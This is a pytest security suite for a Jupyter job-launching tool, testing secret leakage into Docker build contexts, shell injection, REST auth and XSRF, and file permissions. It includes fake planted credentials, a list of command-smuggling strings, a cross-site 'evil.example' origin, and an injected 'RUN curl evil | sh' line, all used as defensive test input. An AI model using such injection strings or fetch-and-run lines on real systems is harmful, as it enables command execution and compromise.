"""Security, counted (tests/counted.py prints cases tried and held per item): secrets never
reach a build context or an image, user strings never reach a shell or any other language,
every REST endpoint refuses unauthenticated and cross-site requests, and everything a job writes
is owner-only.

* A corpus of project folders (flat, nested, home-like, symlinked, disguised) with planted
  secrets: each context's tar is read back (names and bytes); with Docker, the image's own layers.
* Hostile strings (``;``, ``$()``, backticks, quotes, pipes, newlines) in folder and notebook
  names, ``--name``, ``--label``, ``--args`` and ``--requirements`` go through plan -> launch
  (local) -> job, by the CLI, the magic and the REST service: a canary file is never created.
* The REST routes are enumerated from ``handlers.ROUTES``, so a new endpoint is covered by itself.
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import io
import json
import logging
import os
import re
import shlex
import stat
import sys
import tarfile
import time
import urllib.parse
import uuid
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import counted
import pytest
from dockerinfra import own_layer_files
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jobutil import JOB_DEADLINE_S, plan_for, run_job, stored_job, write_notebook
from secret_corpus import ARCHIVE_FORMS, CONTENT_FORMS
from tornado.httpclient import HTTPClientError, HTTPResponse

from tfc_jupyter import cli, jobs
from tfc_jupyter.errors import SpecError, TfcError
from tfc_jupyter.image.context import SecretInFile, secret_reason
from tfc_jupyter.job.spec import ImageSettings, JobSpec
from tfc_jupyter.planner.plan import Plan
from tfc_jupyter.returns import notify
from tfc_jupyter.server import handlers
from tfc_jupyter.server.service import JobService
from tfc_jupyter.store.records import JobRecord, JobState

pytest_plugins = ("pytest_jupyter.jupyter_server",)

ITEMS = [
    "the kernel's environment stays off the disk",
    "no secret or tool state in any build context",
    "no secret in the image layers",
    "every planted secret stops the plan, quoted nowhere",
    "a secret passed as --env is refused, quoted nowhere",
    "a secret in a cell, a requirement or --args never ships, quoted nowhere",
    "plan --json and the dry run list the build context",
    "user strings reach no shell",
    "strings that are not code never run",
    "every REST endpoint requires auth and the same origin",
    "a request of any size is answered in a few lines, the server unharmed",
    "everything a job writes is owner-only",
    "a --notify URL's secrets are shown nowhere",
    "a report naming a path outside the job's folders is refused",
]


def test_every_item_has_cases() -> None:
    counted.check_items(sys.modules[__name__])


Fetch = Callable[..., Awaitable[HTTPResponse]]
MARK = b"PLANTED-"


# ====================================================================== secrets corpus
def _pem(label: str, tag: str) -> str:
    return f"-----BEGIN {label}-----\nMIIB{tag}PLANTED-{tag}\n-----END {label}-----\n"


def _sa_json(tag: str) -> str:
    return json.dumps(
        {
            "type": "service_account",
            "project_id": "p",
            "private_key_id": f"PLANTED-{tag}",
            "private_key": _pem("PRIVATE KEY", tag),
            "client_email": "trainer@p.iam.gserviceaccount.com",
        },
        indent=2,
    )


def _aws(tag: str, upper: bool = False) -> str:
    key = "AWS_SECRET_ACCESS_KEY" if upper else "aws_secret_access_key"
    return f"[default]\naws_access_key_id = AKIA\n{key} = PLANTED-{tag}\n"


def _files(folder: Path, files: dict[str, str | bytes]) -> None:
    for rel, content in files.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)


def _flat(folder: Path, outside: Path) -> list[str]:
    _files(
        folder,
        {
            ".env": "API_TOKEN=PLANTED-dotenv\n",
            ".env.local": "API_TOKEN=PLANTED-dotenv-local\n",
            ".ENV.production": "API_TOKEN=PLANTED-dotenv-upper\n",
            ".envrc": "export TOKEN=PLANTED-envrc\n",
            "prod.env": "TOKEN=PLANTED-prod-env\n",
            "id_rsa": _pem("RSA PRIVATE KEY", "id-rsa"),
            "id_ecdsa": _pem("EC PRIVATE KEY", "id-ecdsa"),
            "server.key": "PLANTED-server-key\n",
            "cert.PEM": _pem("CERTIFICATE", "cert-upper"),
            "store.p12": b"\x30\x82PLANTED-p12",
            "store.pfx": b"\x30\x82PLANTED-pfx",
            "app.jks": b"\xfe\xed\xfe\xedPLANTED-jks",
            "putty.ppk": "PuTTY-User-Key-File-2: ssh-rsa\nPLANTED-ppk\n",
            "service-account.json": _sa_json("sa-flat"),
            "credentials": _aws("aws-bare"),
            ".netrc": "machine api.wandb.ai login user password PLANTED-netrc\n",
            ".pypirc": "[pypi]\npassword = PLANTED-pypirc\n",
            ".npmrc": "//registry.npmjs.org/:_authToken=PLANTED-npmrc\n",
            ".git-credentials": "https://u:PLANTED-gitcred@github.com\n",
            "kubeconfig": "PLANTED-kubeconfig\n",
            ".htpasswd": "u:PLANTED-htpasswd\n",
            "data.csv": "a,b\n1,2\n",
            "model.py": "LAYERS = 3\n",
        },
    )
    return []


def _nested(folder: Path, outside: Path) -> list[str]:
    _files(
        folder,
        {
            "data/raw/2024/.env": "TOKEN=PLANTED-nested-env\n",
            "src/config/secrets/key.pem": _pem("PRIVATE KEY", "nested-pem"),
            "a/b/c/d/e/sa-key.json": _sa_json("nested-sa"),
            "configs/prod/.aws/credentials": _aws("nested-aws"),
            "project/.git/config": "[remote]\nurl = https://PLANTED-git@x\n",
            "deep/.ssh/id_rsa": _pem("OPENSSH PRIVATE KEY", "nested-ssh"),
            "x/y/.config/gcloud/credentials.db": b"SQLite format 3\0PLANTED-gcloud-db",
            "x/y/.kube/config": "kind: Config\nclusters: []\n# PLANTED-nested-kube\n",
            "data/raw/2024/train.csv": "a\n1\n",
            "src/config/settings.yaml": "lr: 0.1\n",
        },
    )
    return []


def _home_like(folder: Path, outside: Path) -> list[str]:
    adc = {"type": "authorized_user", "client_id": "c", "refresh_token": "PLANTED-adc"}
    _files(
        folder,
        {
            ".ssh/id_ed25519": _pem("OPENSSH PRIVATE KEY", "home-ssh"),
            ".ssh/config": "Host x # PLANTED-ssh-config\n",
            ".aws/credentials": _aws("home-aws"),
            ".aws/config": "[default]\n# PLANTED-aws-config\n",
            ".config/gcloud/application_default_credentials.json": json.dumps(adc),
            ".config/gcloud/legacy_credentials/me@x.com/adc.json": json.dumps(adc),
            ".config/gcloud/access_tokens.db": b"SQLite format 3\0PLANTED-tokens-db",
            ".docker/config.json": '{"auths": {"r": {"auth": "PLANTED-docker"}}}',
            ".azure/accessTokens.json": '[{"accessToken": "PLANTED-azure"}]',
            ".gnupg/private-keys-v1.d/k.key": "PLANTED-gnupg\n",
            ".kaggle/kaggle.json": '{"username": "me", "key": "PLANTED-kaggle"}',
            ".cache/huggingface/token": "hf_PLANTED-hf-token\n",
            ".huggingface/token": "hf_PLANTED-hf-old\n",
            ".boto": "[Credentials]\ngs_secret_access_key = PLANTED-boto\n",
            ".s3cfg": "[default]\nsecret_key = PLANTED-s3cfg\n",
            "work/train.py": "print('train')\n",
        },
    )
    return []


def _symlinked(folder: Path, outside: Path) -> list[str]:
    _files(
        outside,
        {
            "secret.pem": _pem("RSA PRIVATE KEY", "link-pem"),
            "aws_credentials": _aws("link-aws"),
            ".config/gcloud/application_default_credentials.json": json.dumps(
                {"type": "authorized_user", "refresh_token": "PLANTED-link-adc"}
            ),
            "shared_dir/.env": "TOKEN=PLANTED-link-dir-env\n",
            "shared_dir/sa.json": _sa_json("link-dir-sa"),
            "shared_dir/ok.txt": "fine\n",
        },
    )
    _files(folder, {"data/real.csv": "a\n1\n"})
    os.symlink(outside / "secret.pem", folder / "data" / "innocent.txt")
    os.symlink(outside / "aws_credentials", folder / "data" / "creds.txt")
    os.symlink(outside / ".config" / "gcloud", folder / "data" / "adc")
    os.symlink(outside / "shared_dir", folder / "shared")
    os.symlink(".", folder / "loop")
    os.symlink(folder / "does-not-exist", folder / "dangling")
    return ["data/innocent.txt", "data/creds.txt", "data/adc", "shared", "shared/.env"]


def _disguised(folder: Path, outside: Path) -> list[str]:
    client = {"installed": {"client_id": "x", "client_secret": "PLANTED-client-secret"}}
    token = {"token": "ya29", "refresh_token": "PLANTED-oauth-refresh", "client_secret": "s"}
    _files(
        folder,
        {
            "config.json": b"\xef\xbb\xbf" + _sa_json("bom-sa").encode(),
            "adc-copy.json": b"\xef\xbb\xbf"
            + json.dumps({"type": "authorized_user", "refresh_token": "PLANTED-bom"}).encode(),
            "notes.md": "# notes\n\n" + _pem("OPENSSH PRIVATE KEY", "md-ssh"),
            "settings.ini": _aws("ini-aws", upper=True),
            "cluster.yaml": "apiVersion: v1\nkind: Config\nclusters:\n- name: PLANTED-k8s\n",
            "wif.json": json.dumps({"type": "external_account", "audience": "PLANTED-wif"}),
            "enc.txt": _pem("ENCRYPTED PRIVATE KEY", "pkcs8"),
            "dsa.txt": _pem("DSA PRIVATE KEY", "dsa"),
            "client_secret_123.apps.googleusercontent.com.json": json.dumps(client),
            "token.json": json.dumps(token),
            "params.json": '{"type": "adam", "lr": 0.1}',
        },
    )
    return []


LAYOUTS: dict[str, Callable[[Path, Path], list[str]]] = {
    "flat": _flat,
    "nested": _nested,
    "home_like": _home_like,
    "symlinked": _symlinked,
    "disguised": _disguised,
}
INNOCENT = {  # files each layout's context must still hold (the check is not vacuous)
    "flat": ["data.csv", "model.py"],
    "nested": ["data/raw/2024/train.csv", "src/config/settings.yaml"],
    "home_like": ["work/train.py"],
    "symlinked": ["data/real.csv", "shared/ok.txt"],
    "disguised": ["params.json"],
}


def _make_layout(root: Path, name: str) -> tuple[Path, list[str]]:
    """The layout's folder with a notebook; returns (notebook, files declared by name)."""
    folder, outside = root / name, root / f"{name}-outside"
    folder.mkdir(parents=True)
    outside.mkdir()
    declared = LAYOUTS[name](folder, outside)
    body = "%%tfc_run --backend docker --include .\nprint(open('README.txt').read())"
    (folder / "README.txt").write_text("hello\n")
    nb = write_notebook(folder / "train.ipynb", "import os", body)
    return nb, declared


def _tar_members(data: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        return {
            m.name: (tar.extractfile(m).read() if m.isfile() else b"")  # type: ignore[union-attr]
            for m in tar.getmembers()
        }


def _planted(folder: Path) -> list[str]:
    """Every file under ``folder`` (links not followed) whose bytes carry the marker."""
    found = []
    for dirpath, _, names in os.walk(folder, followlinks=False):
        for name in names:
            path = Path(dirpath) / name
            try:
                if path.is_file() and MARK in path.read_bytes():
                    found.append(path.relative_to(folder).as_posix())
            except OSError:
                continue
    return found


def _is_secret_file(path: Path, rel: str) -> bool:
    if not path.is_file():
        return False
    return secret_reason(rel, path) is not None or secret_reason(path.resolve().name) is not None


@pytest.mark.item("no secret or tool state in any build context")
@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_no_secret_in_any_build_context(tmp_path: Path, tfc_env: Path, layout: str) -> None:
    nb, declared = _make_layout(tmp_path, layout)
    planted = _planted(nb.parent)
    outside = _planted(tmp_path / f"{layout}-outside")
    assert planted or outside, "the layout plants secrets"
    # A secret file asked for by name stops the plan, naming it; folders leave secrets out.
    named = [rel for rel in declared if _is_secret_file(nb.parent / rel, rel)]
    for rel in named:
        with pytest.raises(SecretInFile, match="holds a secret"):
            plan_for(nb, f"--include {shlex.quote(rel)}")
    rest = [rel for rel in declared if rel not in named]
    plan = plan_for(nb, " ".join(f"--include {shlex.quote(rel)}" for rel in rest))
    assert plan.context is not None
    members = _tar_members(plan.context.tar_bytes())
    leaked = sorted(name for name, data in members.items() if MARK in data)
    named = sorted(f"app/{rel}" for rel in planted if f"app/{rel}" in members)
    print(
        f"[security] {layout}: {len(planted) + len(outside)} planted, {len(members)} in context, "
        f"{len(plan.context.left_out)} left out, leaked {leaked + named}"
    )
    assert leaked == [] and named == [], (leaked, named)
    for rel in INNOCENT[layout]:
        assert f"app/{rel}" in members, (rel, sorted(members))
    assert "app/train.ipynb" in members and "code/script.py" in members
    assert all(reason for _, reason in plan.context.left_out)


@pytest.mark.item("no secret in the image layers")
@pytest.mark.slow
def test_no_secret_in_the_image_layers(
    tmp_path: Path, tfc_env: Path, docker_client: Any, tf_parent_image: str
) -> None:
    from tfc_jupyter.image import ensure_image, reporting

    root = tmp_path / "corpus"
    declared = []
    for name in LAYOUTS:  # every layout (and its "outside" folder) under one notebook
        _, flags = _make_layout(root, name)
        declared += [  # secret files asked for by name stop the plan (tested above)
            f"--include {name}/{rel}"
            for rel in flags
            if not _is_secret_file(root / name / rel, f"{name}/{rel}")
        ]
    nb = write_notebook(root / "all.ipynb", "%%tfc_run --backend docker --include .\nprint(1)")
    plan = plan_for(nb, f"--parent-image {tf_parent_image} " + " ".join(declared))
    with reporting(lambda event: None):
        result = ensure_image(plan, push=False, client=docker_client)
    files = own_layer_files(docker_client, result.uri, tf_parent_image, (MARK,))
    print(f"[security] image: {len(files.names)} files in its own layers, leaked {files.marked}")
    assert files.marked == set()
    assert "app/flat/data.csv" in files.names and "app/symlinked/shared/ok.txt" in files.names


# ====================================================================== no shell
HOSTILE = [
    "; touch {c}",
    "$(touch {c})",
    "`touch {c}`",
    "' ; touch {c} ; '",
    '" ; touch {c} ; "',
    "| touch {c} &",
    "&& touch {c} #",
    "\n touch {c}",
]
ARGV_CELL = (
    "%%tfc_run --strategy none\n"
    "import json, os, sys\n"
    "print('ARGV=' + json.dumps(sys.argv[1:]))\n"
    "print('CWD=' + os.getcwd())\n"
)


class Canary:
    """A unique file name that only a shell running a hostile string would create."""

    def __init__(self, tmp_path: Path) -> None:
        self.token = f"canary-{uuid.uuid4().hex[:10]}"
        home = Path(os.environ.get("TFC_JUPYTER_HOME") or tmp_path)
        self.trees = [tmp_path, home]  # notebook folders, job folders: every cwd a job has
        self.places = [Path.cwd(), Path.home(), Path("/tmp"), Path("/")]  # other cwds

    def found(self) -> list[str]:
        """Every file or folder of that name."""
        hits = [p for p in self.places if (p / self.token).exists()]
        for tree in self.trees:
            for dirpath, dirs, names in os.walk(tree):
                hits += [Path(dirpath) / n for n in dirs + names if n == self.token]
        return sorted(str(p) for p in hits)


@pytest.fixture
def canary(tmp_path: Path) -> Canary:
    """A fresh canary for this test."""
    return Canary(tmp_path)


def _strings(token: str, absolute: Path) -> list[str]:
    """Every hostile template, with the canary as an absolute path."""
    return [h.format(c=absolute / token) for h in HOSTILE]


def _cli_run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = cli.main(argv)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.item("user strings reach no shell")
@pytest.mark.slow
def test_hostile_folder_and_notebook_names_reach_no_shell(
    tmp_path: Path, tfc_env: Path, canary: Canary, capsys: pytest.CaptureFixture[str]
) -> None:
    outcomes: dict[str, int] = {}
    for i, template in enumerate(HOSTILE[:6]):
        hostile = template.format(c=canary.token)  # relative: lands in whatever cwd a shell has
        folder = tmp_path / f"p{i} {hostile}".replace("/", "_")
        folder.mkdir()
        nb = write_notebook(folder / f"{hostile}.ipynb".replace("/", "_"), ARGV_CELL)
        code, _, err = _cli_run(["run", str(nb)], capsys)
        outcomes[template] = code
        assert code == 0, err
        assert f"CWD={folder}" in _chief_log(nb), err
    print(f"[security] hostile paths: {len(outcomes)} jobs, exit codes {set(outcomes.values())}")
    assert canary.found() == []


@pytest.mark.item("user strings reach no shell")
@pytest.mark.slow
def test_hostile_flags_reach_no_shell(
    tmp_path: Path, tfc_env: Path, canary: Canary, capsys: pytest.CaptureFixture[str]
) -> None:
    nb = write_notebook(tmp_path / "argv.ipynb", ARGV_CELL)
    counts = {"ran": 0, "refused": 0}
    strings = _strings(canary.token, tmp_path)
    # --args: split like a shell, never run by one; the job sees exactly the words.
    args = " ".join(shlex.quote(s) for s in strings) + " --x=$(touch {0}) `touch {0}`".format(
        tmp_path / canary.token
    )
    code, _, err = _cli_run(["run", str(nb), "--args", args], capsys)
    assert code == 0, err
    argv = json.loads(_chief_log(nb).split("ARGV=", 1)[1].splitlines()[0])
    assert argv == shlex.split(args)
    counts["ran"] += 1
    # --requirements: a file whose name is hostile, holding an installed package: it runs.
    for s in strings[:4]:
        req = tmp_path / f"req {s}.txt".replace("/", "_")
        req.write_text("psutil\n")
        code, _, err = _cli_run(["run", str(nb), "--requirements", str(req)], capsys)
        assert code == 0, err
        counts["ran"] += 1
    # --name: any text Vertex AI takes (UTF-8, no control characters) is kept as written and
    # runs nowhere; a name it would refuse is refused in one line.
    for s in strings:
        code, _, err = _cli_run(["run", str(nb), "--name", s], capsys)
        if code == 0:
            assert jobs.store_for().list(limit=1)[0].name == s
            counts["ran"] += 1
        else:
            assert code == 2 and err.count("\n") == 1 and "Fix:" in err, err
            counts["refused"] += 1
    # --label: a local job's labels are the product's own (any printable text, issue 51): kept
    # as written, run nowhere; what they refuse (control characters ...) is one line.
    for s in strings:
        for flags in (["--label", f"k={s}"], ["--label", f"{s}=v"]):
            code, _, err = _cli_run(["run", str(nb), *flags], capsys)
            if code == 0:
                counts["ran"] += 1
            else:
                assert code == 2 and err.count("\n") == 1 and "Fix:" in err, err
                counts["refused"] += 1
    print(f"[security] hostile flags: {counts}")
    assert canary.found() == []


@pytest.mark.item("user strings reach no shell")
@pytest.mark.slow
def test_hostile_strings_through_the_magic_and_rest(
    tmp_path: Path, tfc_env: Path, canary: Canary, monkeypatch: pytest.MonkeyPatch
) -> None:
    from IPython.core.error import UsageError
    from IPython.testing import globalipapp
    from IPython.utils.capture import capture_output

    globalipapp.start_ipython()  # None when another module started it: the same shell
    ip = globalipapp.get_ipython()
    assert ip is not None
    ip.run_line_magic("load_ext", "tfc_jupyter")
    hostile = HOSTILE[1].format(c=tmp_path / canary.token)
    folder = tmp_path / HOSTILE[0].format(c=canary.token)
    folder.mkdir()
    nb = write_notebook(folder / "nb.ipynb", ARGV_CELL)
    # How a person writes it: the folder quoted, the argument quoted inside --args.
    line = f"--strategy none --notebook '{nb}' --args \"--msg '{hostile}'\""
    with capture_output() as cap:
        job = ip.run_cell_magic("tfc_run", line, ARGV_CELL.split("\n", 1)[1])
    assert job.record().state is JobState.SUCCEEDED, cap.stdout
    assert f"ARGV={json.dumps(['--msg', hostile])}" in job.logs()
    with capture_output(), pytest.raises(UsageError) as info:
        ip.run_cell_magic(  # Google's label rules where the job goes to Google
            "tfc_run",
            f"--dry-run --backend vertex --project p-1 --label {shlex.quote('a=' + hostile)}",
            "x",
        )
    assert "\n" not in str(info.value)
    # The REST service: the same strings as JSON options.
    service = JobService(tmp_path)
    status, data = service.create(
        {
            "path": str(nb.relative_to(tmp_path)),
            "options": {"strategy": "none", "args": shlex.quote(hostile)},
        }
    )
    assert status == 201
    record = jobs.Job(data["job"]["id"], service.store()).wait(timeout=JOB_DEADLINE_S)
    assert record.state is JobState.SUCCEEDED, record.error
    assert f"ARGV={json.dumps([hostile])}" in jobs.Job(record.id, service.store()).logs()
    with pytest.raises(TfcError) as info:
        service.create(
            {
                "path": str(nb.relative_to(tmp_path)),
                "options": {"label": [f"a={hostile}"], "backend": "vertex", "project": "p-1"},
            }
        )
    assert "\n" not in str(info.value) and "Fix:" in str(info.value)
    # A display name may be any text (Vertex AI takes any UTF-8): kept as written, run nowhere.
    status, data = service.create(
        {"path": str(nb.relative_to(tmp_path)), "options": {"strategy": "none", "name": hostile}}
    )
    assert status == 201 and data["job"]["name"] == hostile
    record = jobs.Job(data["job"]["id"], service.store()).wait(timeout=JOB_DEADLINE_S)
    assert record.state is JobState.SUCCEEDED, record.error
    assert canary.found() == []


def _chief_log(nb: Path) -> str:
    """The chief log of the newest job (the CLI ran it to the end)."""
    (record,) = jobs.store_for().list(limit=1)
    assert record.state is JobState.SUCCEEDED, record.error
    return (Path(record.log_dir) / "chief.log").read_text()


# ====================================================================== REST: auth, XSRF
@pytest.fixture
def tfc_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh job-record folder for the server."""
    home = tmp_path / "tfc_home"
    home.mkdir()
    monkeypatch.setenv("TFC_JUPYTER_HOME", str(home))
    return home


@pytest.fixture
def jp_server_config(tfc_home: Path) -> dict[str, Any]:
    """Our extension on, authentication required."""
    return {
        "ServerApp": {
            "jpserver_extensions": {"tfc_jupyter": True, "jupyter_server_terminals": False},
            "allow_unauthenticated_access": False,
        }
    }


_SAMPLES = {"job_id": "some-job", "path": "no-such-thing"}
_METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE")


def _routes() -> list[tuple[str, str, tuple[str, ...]]]:
    """``(pattern, method, path parts)`` for every method each route's handler defines."""
    from jupyter_server.base.handlers import APIHandler

    out = []
    for pattern, handler in handlers.ROUTES:
        path = re.sub(r"\(\?P<(\w+)>[^()]*\)", lambda m: _SAMPLES.get(m[1], "x"), pattern)
        assert re.fullmatch(pattern, path), (pattern, path)
        own = handler.__mro__[: handler.__mro__.index(APIHandler)]
        for method in _METHODS:
            if any(method.lower() in cls.__dict__ for cls in own):
                out.append((pattern, method, tuple(path.split("/"))))
    return out


ROUTE_CASES = _routes()


@pytest.mark.item("every REST endpoint requires auth and the same origin")
def test_routes_are_enumerated() -> None:
    patterns = {p for p, _, _ in ROUTE_CASES}
    assert patterns == {p for p, _ in handlers.ROUTES}
    assert {m for _, m, _ in ROUTE_CASES} >= {"GET", "POST"}
    assert len(ROUTE_CASES) >= 9


async def _status(fetch: Fetch, method: str, parts: tuple[str, ...], **kwargs: Any) -> int:
    if method in ("POST", "PUT", "PATCH"):
        kwargs.setdefault("body", "{}")
    try:
        response = await fetch("tfc-jupyter", *parts, method=method, **kwargs)
    except HTTPClientError as exc:
        return exc.code
    return response.code


@pytest.mark.item("every REST endpoint requires auth and the same origin")
@pytest.mark.parametrize(("pattern", "method", "parts"), ROUTE_CASES)
async def test_every_route_refuses_unauthenticated_requests(
    jp_fetch: Fetch, tfc_home: Path, pattern: str, method: str, parts: tuple[str, ...]
) -> None:
    for auth in ("", "token wrong-token", "Bearer x"):
        status = await _status(jp_fetch, method, parts, headers={"Authorization": auth})
        assert status in (401, 403), (method, pattern, auth, status)
    assert jobs.store_for(tfc_home).list(limit=None) == []


@pytest.mark.item("a request of any size is answered in a few lines, the server unharmed")
@pytest.mark.parametrize("length", [1, 199, 200, 201, 256, 4_096, 60_000])
async def test_a_job_id_of_any_length_is_a_small_json_404(
    jp_fetch: Fetch, tfc_home: Path, length: int
) -> None:
    """Every job route, with an id of 1 to 60,000 characters (either side of the 200 an id
    may have; the request line stays under Tornado's 64 KB header limit): a JSON 404 of under
    2 KB, never a 500, never the id echoed whole."""
    job_routes = [(m, parts) for p, m, parts in ROUTE_CASES if "job_id" in p]
    assert len(job_routes) >= 5
    for method, parts in job_routes:
        path = [("j" * length if part == _SAMPLES["job_id"] else part) for part in parts]
        kwargs: dict[str, Any] = {"body": "{}"} if method == "POST" else {}
        with pytest.raises(HTTPClientError) as info:
            await jp_fetch("tfc-jupyter", *path, method=method, **kwargs)
        response = info.value.response
        assert info.value.code == 404 and response is not None, (method, parts, info.value)
        assert len(response.body) < 2_000, (method, parts, len(response.body))
        answer = json.loads(response.body)
        assert re.match(r"no (such )?(job|endpoint)", answer["message"], re.I), answer["message"]


@pytest.mark.item("a request of any size is answered in a few lines, the server unharmed")
async def test_a_request_line_past_the_header_limit_is_closed_and_the_server_answers_on(
    jp_fetch: Fetch, jp_http_port: int, jp_serverapp: Any, tfc_home: Path
) -> None:
    """A 100,000-character job id is over the 64 KB that Tornado (Jupyter's web server) reads
    of a request's head: the connection is closed, within a deadline, and the next request is
    answered as usual."""
    import asyncio

    token = jp_serverapp.identity_provider.token
    reader, writer = await asyncio.open_connection("127.0.0.1", jp_http_port)
    head = f"GET /tfc-jupyter/jobs/{'j' * 100_000} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    writer.write(f"{head}Authorization: token {token}\r\n\r\n".encode())
    with contextlib.suppress(ConnectionError):
        await writer.drain()
    answer = await asyncio.wait_for(reader.read(), timeout=20)
    writer.close()
    assert b" 500 " not in answer[:20], answer[:200]
    response = await jp_fetch("tfc-jupyter", "jobs")
    assert response.code == 200 and json.loads(response.body)["jobs"] == []


async def _browser(jp_fetch: Fetch, token: str) -> dict[str, str]:
    """A logged-in browser's cookies (the login form, as a person would submit it)."""
    page = await jp_fetch("login", headers={"Authorization": ""}, follow_redirects=False)
    cookies = _cookies(page, {})
    form = urllib.parse.urlencode({"password": token, "_xsrf": cookies["_xsrf"]})
    with pytest.raises(HTTPClientError) as info:  # 302 to the application: logged in
        await jp_fetch(
            "login",
            method="POST",
            body=form,
            headers={"Authorization": "", "Cookie": f"_xsrf={cookies['_xsrf']}"},
            follow_redirects=False,
        )
    assert info.value.code == 302 and info.value.response is not None
    return _cookies(info.value.response, cookies)


def _cookies(response: HTTPResponse, into: dict[str, str]) -> dict[str, str]:
    for header in response.headers.get_list("Set-Cookie"):
        name, _, rest = header.partition("=")
        into[name] = rest.split(";")[0]
    return into


@pytest.mark.item("every REST endpoint requires auth and the same origin")
async def test_every_route_refuses_cross_site_requests(
    jp_fetch: Fetch, jp_serverapp: Any, tfc_home: Path
) -> None:
    cookies = await _browser(jp_fetch, jp_serverapp.identity_provider.token)
    jar = "; ".join(f"{k}={v}" for k, v in cookies.items())
    xsrf = urllib.parse.unquote(cookies["_xsrf"])
    browser = {"Authorization": "", "Cookie": jar}
    counts = {"refused": 0, "control": 0}
    for pattern, method, parts in ROUTE_CASES:
        # The session itself works (same origin): the refusals below are not vacuous.
        same = {**browser, "X-XSRFToken": xsrf} if method != "GET" else browser
        status = await _status(jp_fetch, method, parts, headers=same)
        assert status not in (401, 403), (method, pattern, status)
        counts["control"] += 1
        # A page on another site: the browser sends the cookie and its own Origin.
        evil = {**browser, "Origin": "http://evil.example", "X-XSRFToken": xsrf}
        status = await _status(jp_fetch, method, parts, headers=evil)
        assert status in (403, 404), (method, pattern, "cross-origin", status)
        counts["refused"] += 1
        if method != "GET":  # a cross-site form: the cookie without the XSRF token
            status = await _status(jp_fetch, method, parts, headers=browser)
            assert status == 403, (method, pattern, "no xsrf", status)
            counts["refused"] += 1
    print(f"[security] REST {len(ROUTE_CASES)} route/method pairs: {counts}")
    # Nothing was launched by any refused request (the control POST /jobs sends no notebook).
    assert jobs.store_for(tfc_home).list(limit=None) == []


# ====================================================================== owner-only files
def _loose(root: Path) -> list[str]:
    """Paths under ``root`` that group or others may read, write or enter."""
    loose = []
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(dirpath) / name
            mode = stat.S_IMODE(os.lstat(path).st_mode)
            if mode & 0o077 and not path.is_symlink():
                loose.append(f"{oct(mode)} {path.relative_to(root)}")
    return loose


@pytest.mark.item("everything a job writes is owner-only")
@pytest.mark.slow
def test_job_folders_logs_and_records_are_owner_only(tmp_path: Path, tfc_env: Path) -> None:
    old = os.umask(0o022)  # the usual umask: files are 0644 unless made private
    try:
        home = tmp_path / "home"
        ok = write_notebook(tmp_path / "ok.ipynb", "%%tfc_run --strategy none\nprint('fine')")
        bad = write_notebook(tmp_path / "bad.ipynb", "%%tfc_run --strategy none\n1 / 0")
        _, first = run_job(ok, home)
        _, second = run_job(bad, home)
    finally:
        os.umask(old)
    assert (first.state, second.state) == (JobState.SUCCEEDED, JobState.FAILED)
    assert list((Path(second.job_dir) / "errors").glob("*.json"))
    files = sum(len(f) for _, _, f in os.walk(home))
    print(f"[security] modes: {files} files under the job home")
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert _loose(home) == []


# ================================================================ moved from the trust pass
CANARY = "AKIAFAKE/canary-secret-value-0123456789"


@pytest.mark.item("the kernel's environment stays off the disk")
@pytest.mark.slow
def test_the_kernels_environment_stays_off_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """launch.json holds the job's variables only; the replica still sees the kernel's."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
    digest = hashlib.sha256(CANARY.encode()).hexdigest()  # the notebook holds no canary
    nb = write_notebook(
        tmp_path / "nb.ipynb",
        "import hashlib, os\nvalue = os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode()\n"
        f"print('sees it:', hashlib.sha256(value).hexdigest() == {digest!r})",
    )
    _, record = run_job(nb, tmp_path / "home")
    assert record.state is JobState.SUCCEEDED, record.error
    job_dir = Path(record.job_dir)
    assert "sees it: True" in (job_dir / "logs" / "chief.log").read_text()
    for path in job_dir.rglob("*"):
        if path.is_file():
            assert CANARY.encode() not in path.read_bytes(), path
    launch = json.loads((job_dir / "launch.json").read_text())
    assert "AWS_SECRET_ACCESS_KEY" not in launch["env"] and "PATH" not in launch["env"]


@pytest.mark.item("plan --json and the dry run list the build context")
def test_plan_json_lists_the_build_context(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tfc_jupyter import cli

    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "rows.csv").write_text("a\n1\n")
    (tmp_path / "data" / ".env").write_text("TOKEN=x\n")
    nb = write_notebook(tmp_path / "nb.ipynb", "x = 1")
    assert cli.main(["plan", str(nb), "--json", "--backend", "docker", "--include", "data"]) == 0
    context = json.loads(capsys.readouterr().out)["context"]
    files = {f["path"]: f["bytes"] for f in context["files"]}
    assert files["app/data/rows.csv"] == 4 and "Dockerfile" in files
    assert {"path": "data/.env", "why": "secret: .env file", "reason": "secret: .env file"} in (
        context["left_out"]
    )
    assert cli.main(["plan", str(nb), "--backend", "docker", "--include", "data"]) == 0
    text = capsys.readouterr().out
    assert (
        "  app/data/rows.csv  4 B" in text and "  left out: data/.env (secret: .env file)" in text
    )


@pytest.mark.item("strings that are not code never run")
@pytest.mark.parametrize("flag", ["parent_image", "image", "cache_from"])
def test_image_references_cannot_carry_dockerfile_lines(flag: str) -> None:
    with pytest.raises(SpecError, match="is not an image reference"):
        JobSpec(image=ImageSettings(**{flag: "python:3.11\nRUN curl evil | sh"}))


@pytest.mark.slow
@pytest.mark.item("strings that are not code never run")
def test_strings_that_are_not_code_never_run(tmp_path: Path, tfc_env: Path) -> None:
    """A notebook name holding code, a %%capture argument holding code, an image reference
    holding a Dockerfile line: the first is a comment in a job that runs, the others are
    refused, and none of the code runs."""
